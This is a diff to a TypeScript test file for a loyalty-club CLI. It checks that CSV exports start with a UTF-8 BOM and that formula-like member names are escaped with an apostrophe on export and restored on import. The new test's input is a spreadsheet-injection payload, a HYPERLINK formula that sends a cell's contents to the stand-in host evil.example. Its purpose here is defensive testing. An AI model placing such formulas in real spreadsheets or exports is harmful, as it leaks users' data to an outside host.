@@ -62,11 +62,31 @@ describe('loyalty jobs run', () => {
     const ledger = join(dir, 'job-1.csv');
     const exported = await runCli(club, ['export', 'ledger', ledger, '--member', 'job-1']);
     expect(exported.code, exported.stderr).toBe(0);
-    const rows = parse(readFileSync(ledger, 'utf8'), { columns: true }) as Record<string, string>[];
+    const text = readFileSync(ledger, 'utf8');
+    expect(text.startsWith('\uFEFFmemberId,'), 'a BOM, so Excel reads UTF-8').toBe(true);
+    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
     expect(rows.map((r) => [r.memberId, r.type, r.points, r.balanceAfter])).toEqual([
       ['job-1', 'expire', '-40', '0'],
       ['job-1', 'earn', '40', '40'],
     ]);
+  });
+
+  it('exports members so a spreadsheet shows formula-like names as text, and imports that file back', async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"سارا")';
+    expect((await club.api('POST', '/v1/members', { memberId: 'csv-formula', email: 'formula@example.com', name, birthday: '--12-10' })).status).toBe(201);
+    const file = join(dir, 'members.csv');
+    const exported = await runCli(club, ['export', 'members', file]);
+    expect(exported.code, exported.stderr).toBe(0);
+    const text = readFileSync(file, 'utf8');
+    expect(text.startsWith('\uFEFFmemberId,'), 'a BOM, so Excel reads Persian as UTF-8').toBe(true);
+    const row = (parse(text, { bom: true, columns: true }) as Record<string, string>[]).find((r) => r.memberId === 'csv-formula')!;
+    expect(row).toMatchObject({ name: `'${name}`, birthday: "'--12-10", balance: '0' });
+
+    const imported = await runCli(club, ['import', 'members', file]);
+    expect(imported.code, imported.stderr).toBe(0);
+    const state = JSON.parse(readFileSync(`${file}.import-state.json`, 'utf8'));
+    expect(state.counts).toMatchObject({ failed: 0, created: 0 });
+    expect((await club.api('GET', '/v1/members/csv-formula')).body).toMatchObject({ name, birthday: '--12-10' });
   });
 
   it('says what is wrong with the command line', async () => {
